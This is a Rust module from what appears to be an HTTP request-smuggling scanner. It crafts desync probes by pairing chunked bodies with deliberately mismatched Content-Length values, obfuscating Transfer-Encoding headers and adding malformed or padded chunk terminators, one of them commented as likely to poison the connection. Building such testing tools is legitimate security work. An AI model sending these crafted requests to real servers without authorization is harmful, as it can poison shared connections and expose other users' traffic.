// File: mutator.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

use crate::rawrequest::RawRequest;
use crate::settings::{
    FlagStore, CONVERT_GET_TO_POST, PAD_EVERYTHING, RISKY_MODE, SWAP_DASH_WITH_UNDERSCORE,
};
use crate::technique::{Configuration, Technique};
use crate::technique_engine::TechniqueEngine;
use flate2::write::GzEncoder;
use flate2::Compression;
use log::{error, trace};
use std::io::Write;
use std::sync::Arc;

pub const TERMINATOR: &str = "0\r\n\r\n";
/// Dangling chunk that most parsers recover from.
pub const MALFORMED_TERMINATOR: &str = "1\r\nZ\r\nQ\r\n\r\n";
/// Dangling chunk followed by a valid end; likely to poison the connection.
pub const RISKY_MALFORMED_TERMINATOR: &str = "1\r\nZ\r\n0\r\n\r\n";
pub const PAD_CHUNK: &str = "F\r\nAAAAAAAAAAAAAAA\r\n";
pub const PAD_CHUNK_COUNT: usize = 3000;

/// Byte transforms that turn an ordinary request into a desync candidate.
#[derive(Clone)]
pub struct RequestMutator {
    engine: Arc<dyn TechniqueEngine>,
    settings: Arc<dyn FlagStore>,
}

impl RequestMutator {
    pub fn new(engine: Arc<dyn TechniqueEngine>, settings: Arc<dyn FlagStore>) -> Self {
        Self { engine, settings }
    }

    pub fn engine(&self) -> &Arc<dyn TechniqueEngine> {
        &self.engine
    }

    /// Ensures a request carries a body that can be reframed. GET is either
    /// turned into POST or given an explicit empty form body.
    pub fn normalize_method(&self, request: &RawRequest) -> RawRequest {
        if !request.as_bytes().starts_with(b"G") {
            return request.clone();
        }
        if self.settings.get_flag(CONVERT_GET_TO_POST) {
            request.toggle_method()
        } else {
            request
                .add_or_replace_header("Content-Type", "application/x-www-form-urlencoded")
                .add_or_replace_header("Content-Length", "0")
        }
    }

    fn terminator(&self, config: &Configuration, malformed_close: bool) -> String {
        let mut ending = if !malformed_close {
            TERMINATOR.to_string()
        } else if self.settings.get_flag(RISKY_MODE) {
            RISKY_MALFORMED_TERMINATOR.to_string()
        } else {
            MALFORMED_TERMINATOR.to_string()
        };

        if self.settings.get_flag(PAD_EVERYTHING) || config.has_technique(Technique::Chunky) {
            let mut padded = PAD_CHUNK.repeat(PAD_CHUNK_COUNT);
            padded.push_str(&ending);
            ending = padded;
        }
        ending
    }

    /// Reframes the body as chunked while keeping a Content-Length header.
    ///
    /// `chunk_offset` is added to the declared chunk size and
    /// `content_length_offset` to the declared Content-Length, so the two
    /// framings can be made to disagree by an exact, signed amount. A chunk size
    /// of zero or less emits only the terminator.
    pub fn chunk_encode(
        &self,
        request: &RawRequest,
        content_length_offset: i64,
        chunk_offset: i64,
        config: &Configuration,
        malformed_close: bool,
    ) -> RawRequest {
        let base = if request.contains(b"Transfer-Encoding") {
            request.clone()
        } else {
            request.add_or_replace_header("Transfer-Encoding", "foo")
        };

        let mut chunked = self.engine.apply(&base, config);

        if self.settings.get_flag(SWAP_DASH_WITH_UNDERSCORE) {
            chunked = chunked.replace(b"Transfer-Encoding", b"Transfer_Encoding");
        }

        let ending = self.terminator(config, malformed_close);
        let body = base.body();
        let chunk_size = body.len() as i64 + chunk_offset;

        let new_body = if chunk_size > 0 {
            let mut framed = Vec::with_capacity(body.len() + ending.len() + 16);
            framed.extend_from_slice(format!("{:x}\r\n", chunk_size).as_bytes());
            framed.extend_from_slice(body);
            framed.extend_from_slice(b"\r\n");
            framed.extend_from_slice(ending.as_bytes());
            framed
        } else {
            ending.into_bytes()
        };
        chunked = chunked.with_body(&new_body);

        let encoded_len = (chunked.len() - chunked.body_start()) as i64;
        let content_length = (encoded_len + content_length_offset).to_string();
        trace!(
            "chunk_encode [{}]: chunk_size={} content_length={}",
            config.keys(),
            chunk_size,
            content_length
        );

        chunked = chunked.set_header("Content-Length", &content_length);
        if config.has_technique(Technique::ReverseVanilla) {
            chunked = chunked
                .replace(b"Content-Length", b"oldContentLength")
                .add_or_replace_header("Content-Length", &content_length);
        }
        chunked
    }

    /// Declares `Transfer-Encoding: gzip` and compresses the body, keeping
    /// Content-Length in step. Never fails: on a compression error the input
    /// comes back unchanged.
    pub fn gzip_wrap(request: &RawRequest) -> RawRequest {
        let declared = request.add_or_replace_header("Transfer-Encoding", "gzip");
        match gzip(declared.body()) {
            Ok(compressed) => declared
                .with_body(&compressed)
                .set_header("Content-Length", &compressed.len().to_string()),
            Err(e) => {
                error!("gzip_wrap failed, leaving request untouched: {}", e);
                request.clone()
            }
        }
    }
}

fn gzip(data: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(data)?;
    encoder.finish()
}
